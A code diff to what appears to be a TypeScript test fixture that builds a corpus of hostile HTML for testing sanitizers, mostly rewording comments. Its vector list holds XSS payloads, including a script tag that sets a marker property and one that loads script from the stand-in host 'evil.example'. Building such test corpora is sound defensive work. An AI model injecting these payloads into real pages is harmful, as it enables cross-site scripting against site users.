@@ -1,4 +1,4 @@
-/** Where something that ran would leave its mark. */
+/** The property that executed HTML would set. */
 export const MARK = 'hostileRan'
 
 const RUN = `window.${MARK}=1`
@@ -66,7 +66,7 @@ const AROUND = [
   (html: string) => `<!--><x>${html}-->`,
 ]
 
-/** Known ways past filters: mutation, namespaces, clobbering, broken markup. */
+/** Known bypasses of sanitizers: mutation, namespaces, clobbering, broken markup. */
 const VECTORS = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
@@ -149,7 +149,10 @@ const VECTORS = [
   `<p>${'&'.repeat(2000)}</p>`,
 ]
 
-/** At least three hundred pieces of HTML that nobody means well with: known ones, and all that a small grammar gives. */
+/**
+ * Returns at least three hundred pieces of malicious HTML: known ones, and all that a small grammar
+ * generates.
+ */
 export function hostileHtml(): string[] {
   const bySchemes = SCHEMES.flatMap((address) => [
     `<a href="${address}">x</a>`,
